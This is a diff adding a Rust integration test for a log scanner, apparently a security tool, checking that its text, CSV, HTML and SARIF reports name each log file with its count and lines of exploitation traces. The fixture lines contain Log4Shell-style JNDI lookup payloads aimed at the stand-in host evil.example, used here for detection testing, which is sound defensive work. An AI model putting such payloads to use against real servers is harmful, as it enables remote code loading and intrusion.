@@ -267,3 +267,103 @@ fn every_disguise_has_a_name_in_both_languages() {
         assert_eq!(*o as usize, i);
     }
 }
+
+/// Issue 11, item 7: a log finding names every file with its count in text, CSV and HTML,
+/// and SARIF carries the traces with file and line; an older document without
+/// `log_summary` still renders that way.
+#[test]
+fn log_findings_name_every_file_with_its_count() {
+    let dir = tempfile::tempdir().unwrap();
+    let logs = dir.path().join("logs");
+    std::fs::create_dir_all(&logs).unwrap();
+    let line =
+        |n: u32| format!("2021-12-11 10:00:0{n},000 INFO ${{jndi:ldap://evil.example/{n}}}\n");
+    std::fs::write(
+        logs.join("access.log"),
+        format!("ok\n{}ok\n{}{}", line(1), line(2), line(3)),
+    )
+    .unwrap();
+    std::fs::write(logs.join("error.log"), line(4)).unwrap();
+    let p = logs.to_str().unwrap();
+    let render = |args: &[&str]| {
+        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
+            .env_remove("LANG")
+            .env("NO_COLOR", "1")
+            .args(["--lang", "en"])
+            .args(args)
+            .args(["--fail-on", "none"])
+            .output()
+            .unwrap();
+        assert_eq!(
+            o.status.code(),
+            Some(0),
+            "{}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let json = dir.path().join("doc.json");
+    render(&[
+        "logs",
+        "-q",
+        "--path",
+        p,
+        "--format",
+        "json",
+        "--output",
+        json.to_str().unwrap(),
+    ]);
+    let mut doc: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
+    let old = dir.path().join("old.json");
+    doc["inventory"]
+        .as_object_mut()
+        .unwrap()
+        .remove("log_summary");
+    std::fs::write(&old, serde_json::to_vec(&doc).unwrap()).unwrap();
+    for from in [&json, &old] {
+        let f = from.to_str().unwrap();
+        let text = render(&["report", "--from", f, "--format", "text"]);
+        assert!(text.contains("access.log: 3 traces, lines 2–5"), "{text}");
+        assert!(text.contains("error.log: one trace, line 1"), "{text}");
+        let csv = render(&["report", "--from", f, "--format", "csv"]);
+        let rows: Vec<&str> = csv.lines().filter(|l| l.contains(".log")).collect();
+        assert_eq!(rows.len(), 2, "{csv}");
+        assert!(
+            rows.iter()
+                .any(|r| r.contains("access.log") && r.contains("3 traces")),
+            "{csv}"
+        );
+        assert!(
+            rows.iter()
+                .any(|r| r.contains("error.log") && r.contains("one trace")),
+            "{csv}"
+        );
+        let html = render(&["report", "--from", f, "--format", "html"]);
+        assert!(html.contains("access.log: 3 traces"), "{f}");
+        assert!(html.contains("error.log: one trace"), "{f}");
+        let sarif: serde_json::Value =
+            serde_json::from_str(&render(&["report", "--from", f, "--format", "sarif"])).unwrap();
+        let results = sarif["runs"][0]["results"].as_array().unwrap();
+        let mut at: Vec<(String, u64)> = results
+            .iter()
+            .map(|r| {
+                let l = &r["locations"][0]["physicalLocation"];
+                let uri = l["artifactLocation"]["uri"].as_str().unwrap();
+                let file = uri.rsplit('/').next().unwrap().to_owned();
+                (file, l["region"]["startLine"].as_u64().unwrap())
+            })
+            .collect();
+        at.sort();
+        let want: Vec<(String, u64)> = [
+            ("access.log", 2),
+            ("access.log", 4),
+            ("access.log", 5),
+            ("error.log", 1),
+        ]
+        .iter()
+        .map(|(f, l)| ((*f).to_owned(), *l))
+        .collect();
+        assert_eq!(at, want, "{sarif}");
+    }
+}
